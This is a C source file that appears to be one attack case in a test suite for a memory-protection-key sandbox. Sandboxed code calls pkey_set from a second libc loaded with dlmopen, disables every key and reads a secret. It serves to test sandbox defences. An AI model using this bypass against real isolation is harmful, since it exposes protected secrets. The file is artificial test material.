/* Tries: to open its keys by the pkey_set of a second C library, which the host has loaded into
 *   a namespace of its own (dlmopen, LD_AUDIT)
 * From: ERIM (Vahldiek-Oberwagner et al., USENIX Security 2019); dlmopen(3)
 * Observed: The secret in what the call gave back.
 * Needs: machine-code, host-code */
#include "attacks/attack.h"

#ifdef ATTACK_FOREIGN
FOREIGN(run)
{
    if (at->gate_start && at->second_pkey_set)
        for (int key = 0; key < 16; key++)
            ((int (*)(int, unsigned))(uintptr_t)at->second_pkey_set)(key, 0);
    take(at, at->secret_global);
    return 0;
}
#endif

#ifdef ATTACK_HOST
#include <dlfcn.h>

static void *LOCAL(handle);

HOST(before)
{
    LOCAL(handle) = dlmopen(LM_ID_NEWLM, "libc.so.6", RTLD_NOW);
    if (!LOCAL(handle))
        host_cannot(host, dlerror());
    else
        host->places[PLACE_second_pkey_set] = (uintptr_t)dlsym(LOCAL(handle), "pkey_set");
}

HOST(after)
{
    (void)host;
    dlclose(LOCAL(handle));
}
#endif
